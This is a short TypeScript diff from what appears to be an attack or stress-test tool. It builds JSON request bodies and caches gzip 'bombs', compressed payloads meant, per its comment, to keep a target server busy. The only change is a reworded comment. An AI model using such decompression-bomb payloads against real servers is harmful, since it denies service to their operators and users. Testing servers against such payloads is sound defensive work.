@@ -11,7 +11,7 @@ const lists = (keys: number, entry: string) =>
 const bodyOf = (token: string, farm: string, entities: string) =>
   `{"HWKEY":"${token}","farm":"${farm}","entities":${entities}}`
 
-/** Made once: it is the server that should be kept busy. */
+/** Built once: the attack should keep the server busy, not itself. */
 const bombs = new Map<string, Buffer>()
 function bomb(name: string, text: () => string): Buffer {
   const made = bombs.get(name) ?? gzipSync(text(), { level: 6 })
